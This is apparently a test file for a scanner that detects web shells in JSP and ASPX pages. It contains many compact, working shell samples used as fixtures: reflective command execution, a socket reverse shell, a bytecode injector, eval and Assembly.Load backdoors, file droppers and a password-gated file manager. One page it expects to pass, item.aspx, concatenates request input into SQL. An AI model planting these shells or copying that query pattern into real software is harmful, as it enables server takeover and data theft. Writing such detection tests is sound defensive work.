/**
 * The managed (Java/JSP, C#/ASPX) data-flow mechanisms: one small hand-written shell per
 * mechanism and hand-written benign pages that use the same APIs without a path from the
 * requester to code, commands, files or the connection. Written for these tests; no corpus file.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';
import { tokenize } from '../../src/scan/analyzers/managed/tokens.js';
import { ManagedFlow } from '../../src/scan/analyzers/managed/dataflow.js';
import { classFileStrings } from '../../src/scan/analyzers/managed/common.js';

function expect(path: string, text: string, want: 'malicious' | 'suspicious' | 'clean', reason?: string | RegExp): void {
  const f = findingOf(path, text);
  assert.equal(f?.verdict ?? 'clean', want, `${path}: ${JSON.stringify(f?.evidence.map((e) => [e.weight, e.reason]))}`);
  if (reason !== undefined) {
    const ok = typeof reason === 'string' ? reasons(f).includes(reason) : reasons(f).some((r) => reason.test(r));
    assert.ok(ok, `${path}: expected ${String(reason)} in ${JSON.stringify(reasons(f))}`);
  }
}

test('managed tokenizer: comments skipped, escapes decoded, verbatim strings, unterminated input ends', () => {
  const t = tokenize('a /* "x" */ = "q\\"\\x41\\101" + @"c:\\d""e" // tail\n; \'\\n\'');
  assert.deepEqual(
    t.map((x) => [x.k, x.v]),
    [
      ['id', 'a'],
      ['op', '='],
      ['str', 'q"AA'],
      ['op', '+'],
      ['str', 'c:\\d"e'],
      ['op', ';'],
      ['str', '\n'],
    ],
  );
  assert.deepEqual(
    tokenize('x = "never closed').map((x) => x.k),
    ['id', 'op', 'str'],
  );
});

test('managed flow: request value through a method parameter and a wrapper return', () => {
  const f = new ManagedFlow(
    `String getP(String n) { return request.getParameter(n); }
     void run(String c) { String d = c.trim(); sink(d); }
     void page() { String v = getP("x"); run(v); String k = "fixed"; run2(k); }
     void run2(String z) { }`,
    'java',
  );
  const run = f.methods.findIndex((m) => m.name === 'run');
  const run2 = f.methods.findIndex((m) => m.name === 'run2');
  assert.ok(f.methods.find((m) => m.name === 'getP')?.retSource);
  assert.ok(f.isTainted(run, 'c') && f.isTainted(run, 'd'));
  assert.ok(!f.isTainted(run2, 'z'));
});

test('managed flow: constants folded from byte arrays, base64, concatenation and reverse', () => {
  const f = new ManagedFlow(
    `String a = new String(new byte[]{101, 120, 101, 99}); String b = new String(java.util.Base64.getDecoder().decode("Z2V0UnVudGltZQ=="));
     String c = "java.lang." + "Run" + "time"; String d = new StringBuilder("cexe").reverse().toString();`,
    'java',
  );
  const folded = new Map([...f.foldedStrings()].map(([v]) => [v, true]));
  for (const v of ['exec', 'getRuntime', 'java.lang.Runtime', 'exec']) assert.ok(folded.has(v), v);
});

test('managed flow: a hostile file of nested calls and chained assignments stays fast', () => {
  const nest = `void f(String a) { } void g() { ${'f('.repeat(20000)}request.getParameter("x")${')'.repeat(20000)}; }`;
  const chain = `void h() { ${'a = '.repeat(50000)}1; }`;
  const t0 = process.hrtime.bigint();
  new ManagedFlow(nest, 'java');
  new ManagedFlow(chain, 'java');
  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 3000);
});

test('jsp: Runtime.exec through reflection with names hidden in byte arrays, request value passed through a method', () => {
  const shell = `<%!
  public static String pic(String s) throws Exception {
    Class r = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}));
    Object rt = r.getMethod(new String(new byte[]{103,101,116,82,117,110,116,105,109,101})).invoke(null);
    Process p = (Process) r.getMethod(new String(new byte[]{101,120,101,99}), String.class).invoke(rt, new Object[]{s});
    return new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next();
  }
%><% String q = request.getParameter("q"); if (q != null) out.print(pic(q)); %>`;
  expect('r.jsp', shell, 'malicious', 'request input reaches process execution through reflection');
});

test('jsp: ProcessBuilder built by reflection from a list the request fills', () => {
  const shell = `<%!
  String run(String str) throws Exception {
    java.util.List<String> l = new java.util.ArrayList<String>();
    l.add("/bin/sh"); l.add("-c"); l.add(str);
    Class pb = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")));
    Process p = (Process) pb.getMethod("start").invoke(pb.getDeclaredConstructors()[0].newInstance(l));
    return "";
  }
%><%= run(request.getHeader("X-C")) %>`;
  expect('pb.jsp', shell, 'malicious', 'request input reaches process execution through reflection');
});

test('jsp benign: a page that loads a JDBC driver by reflection and reads a parameter into a fixed query', () => {
  const page = `<%@ page import="java.sql.*" %><%
  Class.forName("org.postgresql.Driver");
  Connection c = DriverManager.getConnection("jdbc:postgresql://localhost/shop", "shop", "secret");
  PreparedStatement ps = c.prepareStatement("select name from item where id = ?");
  ps.setString(1, request.getParameter("id"));
  ResultSet rs = ps.executeQuery();
  while (rs.next()) out.print(rs.getString(1));
%>`;
  expect('item.jsp', page, 'clean');
});

test('jsp: the request chooses the JDBC connection and the SQL (database client)', () => {
  const shell = `<%@ page import="java.sql.*" %><%
  String url = request.getParameter("url"); String q = request.getParameter("sql");
  Connection c = DriverManager.getConnection(url, request.getParameter("u"), request.getParameter("p"));
  ResultSet rs = c.createStatement().executeQuery(q);
  while (rs.next()) out.print(rs.getString(1));
%>`;
  expect('db.jsp', shell, 'malicious', 'request chooses the database connection and the SQL it runs (database client backdoor)');
});

test('jsp: request chooses both a file path and its content (dropper); an upload stored under a server-made name is clean', () => {
  const shell = `<%@ page import="java.io.*" %><%
  String path = request.getParameter("f");
  String body = request.getParameter("c");
  File nf = new File(path);
  PrintWriter w = new PrintWriter(nf);
  w.println(body); w.close();
%>`;
  expect('drop.jsp', shell, 'malicious', "request chooses a file's path and its content (writes any file)");
  // the server names the stored file: an upload handler, not a dropper
  const upload = `<%@ page import="java.io.*,javax.servlet.http.Part,java.util.UUID" %><%
  Part part = request.getPart("file");
  if (!"image/png".equals(part.getContentType())) { response.sendError(400); return; }
  File dest = new File(application.getRealPath("/uploads"), UUID.randomUUID() + ".png");
  FileOutputStream o = new FileOutputStream(dest);
  InputStream in = part.getInputStream();
  byte[] buf = new byte[8192]; int n;
  while ((n = in.read(buf)) > 0) o.write(buf, 0, n);
  o.close();
%>`;
  expect('up.jsp', upload, 'clean');
});

test('jsp benign: a page that Base64-decodes an image into the response', () => {
  const page = `<%@ page import="java.util.Base64" %><%
  String img = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
  byte[] png = Base64.getDecoder().decode(img);
  response.setContentType("image/png");
  response.getOutputStream().write(png);
%>`;
  expect('logo.jsp', page, 'clean');
});

test('jsp benign: an admin page running a fixed command', () => {
  const page = `<%
  if (request.getParameter("refresh") != null) {
    Process p = new ProcessBuilder("/usr/bin/uptime").start();
    out.print(new String(p.getInputStream().readAllBytes()));
  }
%>`;
  // running commands is worth a look; with the command fixed, the request cannot choose it
  expect('uptime.jsp', page, 'suspicious', 'runs OS commands (ProcessBuilder)');
});

test('jsp: class bytes embedded in the page and defined at runtime (memory shell injector)', () => {
  // a minimal class file: magic, version, a constant pool naming java/lang/Runtime and exec
  const utf = (s: string) => [1, 0, s.length, ...Buffer.from(s)];
  const pool = [...utf('java/lang/Runtime'), ...utf('exec')];
  const bytes = [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 3, ...pool, 0, 0];
  assert.deepEqual(classFileStrings(Buffer.from(bytes)), ['java/lang/Runtime', 'exec']);
  const signed = bytes.map((b) => (b > 127 ? b - 256 : b)).join(', ');
  const shell = `<%
  byte[] code = new byte[]{${signed}};
  java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
  m.setAccessible(true);
  Class c = (Class) m.invoke(Thread.currentThread().getContextClassLoader(), code, 0, code.length);
  c.newInstance();
%>`;
  expect('inj.jsp', shell, 'malicious', 'defines a Java class from bytecode embedded in the file');
  expect('inj.jsp', shell, 'malicious', 'embedded class bytecode references java/lang/Runtime, exec');
});

test('java: a command interpreter wired to a socket (reverse shell)', () => {
  const shell = `import java.net.*; import java.io.*;
public class R { public static void main(String[] a) throws Exception {
  Socket s = new Socket(a[0], Integer.parseInt(a[1]));
  Process p = Runtime.getRuntime().exec("/bin/sh");
  pipe(p.getInputStream(), s.getOutputStream()); pipe(s.getInputStream(), p.getOutputStream());
} static void pipe(InputStream i, OutputStream o) {} }`;
  expect('R.jsp', `<%! ${shell.replace(/^import[^\n]*\n/, '')} %>`, 'malicious', 'connects a command interpreter to a network socket (reverse or bind shell)');
});

test('jsp: websocket message handed to a script engine; a chat endpoint echoing messages is clean', () => {
  const shell = `<%!
  public static class E extends javax.websocket.Endpoint implements javax.websocket.MessageHandler.Whole<String> {
    public void onMessage(String msg) {
      try { Object r = new javax.script.ScriptEngineManager().getEngineByName("js").eval(msg); } catch (Exception e) {}
    }
  }
%>`;
  expect('ws.jsp', shell, 'malicious', 'request input reaches an evaluator .eval()');
  const chat = `<%!
  public static class Chat extends javax.websocket.Endpoint implements javax.websocket.MessageHandler.Whole<String> {
    javax.websocket.Session s;
    public void onMessage(String msg) { try { s.getBasicRemote().sendText(msg.toUpperCase()); } catch (Exception e) {} }
  }
%>`;
  expect('chat.jsp', chat, 'clean');
});

test('jsp: JNDI lookup and OGNL on request input; a fixed JNDI data source is clean', () => {
  expect('jndi.jsp', `<% new javax.naming.InitialContext().lookup(request.getParameter("n")); %>`, 'malicious', /JNDI lookup/);
  expect(
    'ognl.jsp',
    `<% String e = request.getParameter("e"); Object v = ognl.Ognl.getValue(e, new java.util.HashMap(), (Object) null); %>`,
    'malicious',
    'request-derived variable reaches expression language evaluation',
  );
  expect(
    'ds.jsp',
    `<% javax.sql.DataSource ds = (javax.sql.DataSource) new javax.naming.InitialContext().lookup("java:comp/env/jdbc/shop"); String id = request.getParameter("id"); %>`,
    'clean',
  );
});

test('aspx: Process.Start with start info from a posted text box; a fixed command is not flagged', () => {
  const shell = `<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
  var psi = new System.Diagnostics.ProcessStartInfo();
  psi.FileName = "cmd.exe";
  psi.Arguments = "/c " + txtCmd.Text;
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
<form runat="server"><asp:TextBox ID="txtCmd" runat="server" /><asp:Button OnClick="Run" runat="server" /></form>`;
  expect('c.aspx', shell, 'malicious', 'request-derived variable reaches ProcessStartInfo.FileName/Arguments');
  const admin = `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.QueryString["go"] == "1") {
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("iisreset", "/status") { RedirectStandardOutput = true, UseShellExecute = false });
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()));
  }
}
</script>`;
  // a fixed program with fixed arguments: one capability (the start info and its Start are one run), no shell
  expect('status.aspx', admin, 'clean');
  const withInterpreter = admin.replace('"iisreset", "/status"', '"cmd.exe", "/c iisreset /status"');
  expect('status.aspx', withInterpreter, 'suspicious', 'passes commands to a shell interpreter');
});

test('aspx: Assembly.Load of request bytes through a helper method; loading a fixed assembly is clean', () => {
  const shell = `<%@ Page Language="C#" %>
<script runat="server">
byte[] Dec(byte[] d) { var a = System.Security.Cryptography.Aes.Create(); return a.CreateDecryptor(a.Key, a.IV).TransformFinalBlock(d, 0, d.Length); }
void Page_Load(object s, EventArgs e) {
  byte[] body = Request.BinaryRead(Request.ContentLength);
  var asm = System.Reflection.Assembly.Load(Dec(body));
  asm.CreateInstance("X").Equals(Context);
}
</script>`;
  expect('a.aspx', shell, 'malicious', 'request-derived variable reaches Assembly.Load');
  const page = `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  var asm = System.Reflection.Assembly.Load("Contoso.Reports");
  Response.Write(Server.HtmlEncode(Request.QueryString["title"]));
}
</script>`;
  expect('r.aspx', page, 'clean');
});

test('aspx: JScript eval of a request item with "unsafe"; CodeDom compile of request source', () => {
  expect('j.aspx', `<%@ Page Language="Jscript"%><% var k = Request.Item["z"]; eval(k, "unsafe"); %>`, 'malicious');
  const cd = `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string src = Request.Form["src"];
  var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), src);
}
</script>`;
  expect('cd.aspx', cd, 'malicious', 'request-derived variable reaches CodeDom compile');
});

test('aspx: SQL client on a request-chosen connection string; a fixed connection with a request value in the query is not malicious', () => {
  const shell = `<%@ Page Language="C#" %>
<script runat="server">
void Go(object s, EventArgs e) {
  var c = new System.Data.SqlClient.SqlConnection();
  c.ConnectionString = txtConn.Text;
  c.Open();
  var cmd = new System.Data.SqlClient.SqlCommand(txtSql.Text, c);
  cmd.ExecuteNonQuery();
}
</script>
<form runat="server"><asp:TextBox ID="txtConn" runat="server"/><asp:TextBox ID="txtSql" runat="server"/></form>`;
  expect('sql.aspx', shell, 'malicious', 'request chooses the database connection and the SQL it runs (database client backdoor)');
  const page = `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  using (var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["shop"].ConnectionString)) {
    c.Open();
    var cmd = new System.Data.SqlClient.SqlCommand("select name from item where id = " + Request.QueryString["id"], c);
    Response.Write(cmd.ExecuteScalar());
  }
}
</script>`;
  expect('item.aspx', page, 'clean');
});

test('aspx: File.WriteAllText with path and content from the request; an upload kept under its client name in a fixed folder is clean', () => {
  expect(
    'w.aspx',
    `<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request.Form["p"], Request.Form["c"]); %>`,
    'malicious',
    "request chooses a file's path and its content (writes any file)",
  );
  const upload = `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count == 1) {
    HttpPostedFile f = Request.Files[0];
    string dest = System.IO.Path.Combine(Server.MapPath("~/uploads"), System.IO.Path.GetFileName(f.FileName));
    using (var fs = new System.IO.FileStream(dest, System.IO.FileMode.Create)) { f.InputStream.CopyTo(fs); }
  }
}
</script>`;
  expect('u.aspx', upload, 'clean');
});

test('aspx: a hard-coded key in front of a request-driven file manager', () => {
  const shell = `<%@ Page Language="C#" %>
<script runat="server">
private const string KEY = "s3cr3t-k";
void Page_Load(object s, EventArgs e) {
  if (Request.Params["authkey"] != KEY) return;
  string dir = Request.Params["dir"];
  foreach (var d in new System.IO.DirectoryInfo(dir).GetDirectories()) Response.Write(d.FullName);
  foreach (var f in System.IO.Directory.GetFiles(dir)) Response.Write(f);
  if (Request.Params["del"] != null) System.IO.File.Delete(Request.Params["del"]);
  if (Request.Params["get"] != null) Response.WriteFile(Request.Params["get"]);
}
</script>`;
  expect('fm.aspx', shell, 'malicious', 'request must carry a hard-coded password (the gate of a backdoor tool)');
});
